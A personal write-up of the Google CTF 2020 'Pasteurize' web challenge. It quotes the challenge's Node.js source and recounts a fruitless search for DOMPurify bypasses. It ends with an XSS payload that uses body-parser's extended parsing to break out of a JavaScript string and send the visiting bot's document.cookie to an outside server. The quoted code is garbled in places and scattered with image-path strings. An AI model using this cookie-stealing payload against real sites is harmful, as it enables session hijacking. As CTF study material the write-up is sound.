Google CTF 2020 Pasteurize Web Challenge Write Up

This is the write up for Pasteurize Google CTF 2020 challenge from the perspective of someone who does not routinely do CTFs. A friend of mine teamed up with me and even though we did not go that far, we had fun and learned something.


Challenge description

In this challenge, we get a URL: and a description that says:

This doesn’t look secure. I wouldn’t put even the littlest secret in here. My source tells me that third parties might have implanted it with their little treats already. Can you prove me right?

On this website, we can create a “Paste”. Aftersubmitting it, we get redirected to a page with a random id, which shows our note.

We also have the option to share this with TJMike.

There’s a JavaScript that says sharing with TJMike and after a timeout it goes away.Looking at the HTML source of this page, looks like the “Paste” note is populated inside <script> tags from the server side, then the note is passed to DOMPurify.sanitize library and then displayed on the page using “innerHTML”.

There’s also a note which says: “<!– TODO: Fix b/1337 in /source that could lead to XSS –>“. So we navigate to Here, we can see what looks like the source code of this page written in Node.js.const express = require('express');
const bodyParser = require('body-parser');
const utils = require('./utils');
const Recaptcha = require('express-recaptcha').RecaptchaV3;
const uuidv4 = require('uuid').v4;
const Datastore = require('@google-cloud/datastore').Datastore;

/* Just reCAPTCHA stuff. */
const CAPTCHA_SITE_KEY = process.env.CAPTCHA_SITE_KEY || 'site-key';
const CAPTCHA_SECRET_KEY = process.env.CAPTCHA_SECRET_KEY || 'secret-key';
console.log("Captcha(%s, %s)", CAPTCHA_SECRET_KEY, CAPTCHA_SITE_KEY);
const recaptcha = new Recaptcha(CAPTCHA_SITE_KEY, CAPTCHA_SECRET_KEY, {
  'hl': 'en',
  callback: 'captcha_cb'

/* Choo Choo! */
const app = express();
app.set('view engine', 'ejs');
app.set('strict routing', true);
app.use('/static', express.static('static', {
  etag: true,
  maxAge: 300 * 1000,

/* They say reCAPTCHA needs those. But does it? */
  extended: true

/* Just a datastore. I would be surprised if it's fragile. */
class Database {constructor() {
    this._db = new Datastore({
      namespace: 'littlethings'
  add_note(note_id, content) {
    const note = {
      note_id: note_id,
      owner: 'guest',
      content: content,
      public: 1,
      key: this._db.key(['Note', note_id]),
      data: note,
      excludeFromIndexes: ['content']
  async get_note(note_id) {
    const key = this._db.key(['Note', note_id]);
    let note;
    try {
      note = await this._db.get(key);
    } catch (e) {
      returnnull;
    if (!note || note.length < 1) {
      return null;
    note = note[0];
    if (note === undefined || note.public !== 1) {
      return null;
    return note;

const DB = new Database();

/* Who wants a slice? */
const escape_string = unsafe => JSON.stringify(unsafe).slice(1, -1)
  .replace(/</g, '\\x3C').replace(/>/g, '\\x3E');

/* o/ */
app.get('/', (req, res) => {

/* \o/ [x] */'/', async (req, res) => {
  const note = req.body.content;
  if (!note) {
    return res.status(500).send("Nothing to add");
  if (note.length > 2000) {
    return res.send("The note istoo big");

  const note_id = uuidv4();
  try {
    const result = await DB.add_note(note_id, note);
    if (!result) {
      return res.send("Something wentwrong...");
  } catch (err) {
    return res.send("Something went wrong...");
  await utils.sleep(500);
  return res.redirect(`/${note_id}`);

/* Make sure to properly escape the note! */
app.get('/:id([a-f0-9\-]{36})', recaptcha.middleware.render, utils.cache_mw, async (req, res) => {
  const note_id =;
  const note = await DB.get_note(note_id);

  if (note == null) {
    return res.status(404).send("Paste not found or access has been denied.");

  const unsafe_content = note.content;
  const safe_content = escape_string(unsafe_content);

  res.render('note_public', {
    content: safe_content,
    id: note_id,
    captcha: res.recaptcha

/* Share your pastes with TJMike */'/report/:id([a-f0-9\-]{36})', recaptcha.middleware.verify, (req, res) => {
  const id =;

  /* No robots please! */if (req.recaptcha.error) {
    return res.redirect(`/${id}?msg=Something+wrong+with+Captcha+:(`);

  /* Make TJMike visit the paste */
  utils.visit(id, req);


/* This is my source I was telling you about! */
app.get('/source', (req, res) => {
  res.set("Content-type", "text/plain; charset=utf-8");

/* Let it begin! */
const PORT = process.env.PORT || 8080;

app.listen(PORT, () => {
  console.log(`App listening on port ${PORT}`);
  console.log('Press Ctrl+C to quit.');

module.exports = app;

There are several modules here, google-cloud datastore, recaptcha, The code that escapes < and > tags. I did go over each part, did some quick google search to understand the potential vulnerabilities in each of them, things like SQLi, exposed datastores, etc. Finally we can see the function which makes TJMike visit the paste.

So based on my very limited CTF experience, in these types of challenges where some other user or the admin would visit your page, you can use the XSS to steal the cookie which either directly contains the flag or gives you access to their account and then you can read the flag.It looks like there is an XSS in the paste textbox. But before the note is displayed on the page, it is sanitized using DOMPurify library. So things like <h1> would go through butcertain tags like <script> or attributes like onerror are removed.

How I went down the wrong rabbit hole

Here’s where I got lost and spent a good amount of time on things that led nowhere. I learned new things but they were not necessarily helpful to solve this challenge. Feel free to skip to next section for the final solution.

We usually only talk about how we succeed but I think there are lessons to be learned in failed attempts as well.

We started by searching for DOMPurify vulnerabilities & bypasses and we got this URL: Turns out there is a category of XSS called Mutation XSS (mXSS) which occurs when the browser changes the structure of the HTML after it is checked and sanitized by another system. It specifically happens when innerHTML is used, which is the case in our scenario.

There is a CCS 2013 paper mXSS Attacks: Attacking well-structured Web-Applications by using innerHTML Mutations. There are other blog posts discussing how mXSS could be used to bypass older version of DOMPurify, this and this. Unfortunately all these examples are fixed in the current version of DOMPurify.

The latest version of DOMPurify is 2.0.12, maybe this means something! I went back to the description of the challenge which said:  “My source tells me that third parties might have implanted it with their little treats already.”

/*! @license DOMPurify | (c) Cure53 and other contributors |Released under the Apache license 2.0 and Mozilla Public License 2.0 | */

Moreover, the author of DOMPurifydiscussed in a presentation how us as a community are trusting him not to put backdoors in his library.

Given the description and these slides and the fact that we are using the minified version of DOMPurify here, it is plausible to believe that DOMPurify is backdoored.

So I tried diffing the version 2.0.8 from Github with the one on challenge website and they did not match. It took us a while to realize that the latest version (2.0.12) also uses the comment which says 2.0.8, and the library used here matches the correct version on Github and there are no backdoors. I don’t know if it was on purpose or we were just not experienced enough and went off the wrong clues here, but at some point we realized that the easiest challenge in this CTF is not asking us to find zero days in public libraries. But it was fun, we learned about mXSS, read a CCS paper

Final solution

After closer inspection, we realize that DOMPurify is its latest version and there are no known bypasses for it. So we have to inject our XSS payload before it reaches DOMPurify. This means that we should inject double quotation, close the string definition in the JavaScript code on the page and run our JS payload.

        const note = "a";
        const note_id = "8e986166-f069-4bce-8ebd-4badf9b76477";
        const note_el = document.getElementById('note-content');
        const note_url_el = document.getElementById('note-title');
        const clean = DOMPurify.sanitize(note);
        note_el.innerHTML = clean;
        note_url_el.href = `/${note_id}`;
        note_url_el.innerHTML = `${note_id}`;

The idea is to close the note definition (Yellow part is what we inject):
const note = “a” ;[Inject JS code here];

This is not trivial because double quotes and<, > are being encoded. Going back to the /source, we see that the bodyParser is enabled with extended: true.

/* They say reCAPTCHA needs those. But does it? */
  extended: true

In general, whenworking with different parsers and serialization libraries, usually the Extended-like options are dangerous. In our case, it essentially allows us to send array-like objects as POST parameters [Read more…].

We can try this “content[“bar”][“content”]=”foobarbaz” POST payload, which results to:

const note = ""\"bar\"":{"\"content\"":"\"foobarbaz\""}";

Notice that already we have the quotations we need to close const note definition and inject our payload. We can confirm that alert works by POSTing this payload:


Finally, we can add an image to the page that sends the Cookies as the query string to our server:

content[;var i=new Image; i.src=''.concat(document.cookie);//]["content"]="foobarbaz"

So the JS code within the page looks like this:const note = "";var i=new Image; i.src=''.concat(document.cookie);//":{"\"content\"":"\"foobarbaz\""}";
        const note_id = "394a5c5f-f43c-4e9f-b73f-db36f9065191";
        const note_el = document.getElementById('note-content');
        const note_url_el =document.getElementById('note-title');
        const clean = DOMPurify.sanitize(note);
        note_el.innerHTML = clean;
        note_url_el.href = `/${note_id}`;
        note_url_el.innerHTML = `${note_id}`;

And after asking TJMike to check out our paste, we get the flag in the cookie.CTF{Express_t0_Tr0ubl3s}